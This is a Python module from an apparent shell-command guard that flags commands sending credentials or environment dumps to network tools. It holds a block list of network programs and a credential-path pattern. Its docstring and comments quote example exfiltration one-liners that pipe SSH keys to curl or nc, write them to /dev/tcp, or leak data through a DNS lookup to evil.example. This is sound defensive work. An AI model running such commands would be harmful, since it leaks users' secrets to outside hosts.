"""The hardline test of credentials leaving the machine: a credential store, a private key or
the environment read and handed to a program that sends data to another host (``cat
~/.ssh/id_rsa | curl -d @- …``, ``env | nc h 1``). :data:`NETWORK_SINKS` are those programs.
"""

from __future__ import annotations

import re
from typing import Final

from gatesh._types import SUBSTITUTIONS, Facts, SimpleCommand
from gatesh.policy._rules import (
    is_credential_path,
    option_values,
    split_args,
    unquote,
)
from gatesh.vocab.grammar import grammar_of, parse

# --- credentials leaving the machine -----------------------------------------------------------

NETWORK_SINKS: Final = frozenset(
    {
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "ssh",
        "scp",
        "sftp",
        "rsync",
        "ftp",
        "telnet",
        "http",
        "https",
        "httpie",
        "xh",
        "xhs",
        "curlie",
        "lftp",
        "tftp",
        "openssl",
        "smbclient",
        "rclone",
        "s3cmd",
        "mail",
        "mailx",
        "sendmail",
        "mutt",
        "wput",
        "ncftpput",
        "aws",
        "gsutil",
        "gcloud",
        "az",
        "gh",
        "websocat",
        "nslookup",
        "dig",
        # name lookups carry data in the name they ask for (`host $(…).evil.example`)
        "host",
        "drill",
        "kdig",
        "delv",
        "ping",
        "ping6",
        "traceroute",
        "whois",
    }
)
_CURL_SEND: Final = frozenset(
    {
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--data-ascii",
        "--json",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
    }
)
_BATCH_CLIENTS: Final = frozenset({"sftp", "ftp", "lftp", "tftp", "smbclient", "ncftp"})
_WGET_SEND: Final = frozenset({"--post-file", "--body-file", "--post-data", "--body-data"})
_ENV_DUMPERS: Final = frozenset(
    {"env", "printenv", "set", "export", "declare", "typeset", "compgen"}
)
_DYNAMIC_CRED: Final = re.compile(
    r"(?:\.ssh/(?:id_|[\w.-]*_key\b)|\.aws/|\.netrc|(?:^|[\s/'\"@<(=])\.env\b|/etc/g?shadow|\.git-credentials"
    r"|\.docker/config\.json|\.kube/config|\.config/gh/|\.gnupg|\.pgpass|\.vault-token"
    r"|\$\(\s*(?:env|printenv|set)\s*\)|`\s*(?:env|printenv)\s*`)"
)


def _sent_paths(cmd: SimpleCommand) -> list[str]:
    """Paths a network tool sends as a request body or upload (``-d @FILE``, ``-T FILE`` …)."""
    args = cmd.args
    out: list[str] = []
    if cmd.head in ("curl", "curlie"):
        for v in parse(cmd.head, args).values(*_CURL_SEND):  # `-sd @F` as curl reads it
            v = unquote(v)
            for sep in ("=@", "=<", "@", "<"):
                if sep in v:
                    out.append(v.split(sep, 1)[1].split(";", 1)[0])
                    break
            else:
                out.append(v)  # -T FILE, or --json/-d literal (checked as text)
    elif cmd.head in ("wget",):
        out.extend(parse(cmd.head, args).values(*_WGET_SEND))
    elif cmd.head in ("http", "https", "httpie", "xh", "xhs"):
        for a in args:
            for sep in (":=@", "=@", "@"):
                if sep in a and not a.startswith("-"):
                    out.append(a.split(sep, 1)[1])
                    break
    elif cmd.head in (
        "scp",
        "rsync",
        "sftp",
        "rclone",
        "s3cmd",
        "lftp",
        "smbclient",
        "wput",
        "ncftpput",
    ):
        if grammar_of(cmd.head) is not None:  # scp, sftp, rsync: their own options
            operands = list(parse(cmd.head, args).operands)
        else:
            _, operands = split_args(
                args, frozenset({"-i", "-P", "-p", "-o", "-F", "-e", "-S", "-c", "-l", "-J"})
            )
        if len(operands) >= 2:
            out.extend(operands[:-1])
    elif cmd.head in ("aws", "gsutil"):
        if cmd.head == "aws":  # through its grammar: an option's value is no operand
            operands = list(parse("aws", args).operands)
        else:
            _, operands = split_args(args)
        if len(operands) >= 3 and operands[-1].startswith(("s3://", "gs://")):
            out.extend(operands[:-1])
    elif cmd.head in ("mail", "mailx", "mutt"):
        out.extend(option_values(args, frozenset({"-a", "-A", "--attach"})))
    elif cmd.head == "gh":
        out.extend(parse("gh", args).operands)  # gh gist create FILE, gh release upload
    elif cmd.head == "ftp" and "-u" in args:  # `ftp -u URL FILE…` uploads the files to URL
        out.extend(a for a in args[args.index("-u") + 2 :] if not a.startswith("-"))
    return out


def _is_sink(cmd: SimpleCommand) -> bool:
    if cmd.remote:
        return False
    if cmd.head in NETWORK_SINKS:
        return True
    return any(
        r.target is not None and r.target.startswith(("/dev/tcp/", "/dev/udp/"))
        for r in cmd.redirects
    )


def _is_cred_source(cmd: SimpleCommand) -> bool:
    if cmd.remote:
        return False
    if cmd.head in _ENV_DUMPERS:
        if cmd.head in ("env", "printenv", "set", "compgen") and not any(
            a for a in cmd.args if not a.startswith("-")
        ):
            return True
        if cmd.head in ("export", "declare", "typeset") and (
            not cmd.args or cmd.args[0] in ("-p", "-x", "-px")
        ):
            return True
    if any(
        not r.writes and r.target is not None and is_credential_path(r.target)
        for r in cmd.redirects
    ):
        return True
    if cmd.head in NETWORK_SINKS:  # a sink's operands are auth options or hosts, not data it reads
        return False
    return any(w.static and is_credential_path(w.text) for w in cmd.argv[1:])


def sends_credentials(cmd: SimpleCommand, facts: Facts) -> bool:
    if not _is_sink(cmd):
        return False
    # 1. The sink itself sends a credential file, reads one on stdin, or is fed one by a substitution.
    if any(is_credential_path(p) or _DYNAMIC_CRED.search(p) for p in _sent_paths(cmd)):
        return True
    if any(
        not r.writes and r.target is not None and is_credential_path(r.target)
        for r in cmd.redirects
    ):
        return True
    if any(not w.static and _DYNAMIC_CRED.search(w.text) for w in cmd.argv[1:]):
        return True
    # 1b. A transfer client fed its commands inline (`sftp h <<< 'put .env'`): the reader keeps
    #     no heredoc body here, so a credential path anywhere in the text counts as sent.
    if (
        cmd.head in _BATCH_CLIENTS
        and any(r.op.startswith("<<") for r in cmd.redirects)
        and _DYNAMIC_CRED.search(facts.text)
    ):
        return True
    # 2. `cat ~/.ssh/id_rsa > /dev/tcp/host/port`: the writer is its own sink.
    if cmd.head not in NETWORK_SINKS and _is_cred_source(cmd):
        return True
    # 3. A substitution that reads credentials anywhere in the same command line: the reader
    #    does not say which word a substitution belongs to, so assume the sink receives it.
    if any(not w.static for w in cmd.argv[1:]) and any(
        c.context in SUBSTITUTIONS and _is_cred_source(c) for c in facts.commands
    ):
        return True
    # 4. A pipeline where a credential source comes before the sink.
    index = next((i for i, c in enumerate(facts.commands) if c is cmd), -1)
    for pipe in facts.pipelines:
        if index in pipe:
            before = pipe[: pipe.index(index)]
            for i in before:
                src = facts.commands[i] if i < len(facts.commands) else None
                if src is not None and (
                    _is_cred_source(src)
                    or any(not w.static and _DYNAMIC_CRED.search(w.text) for w in src.argv[1:])
                ):
                    return True
    return False
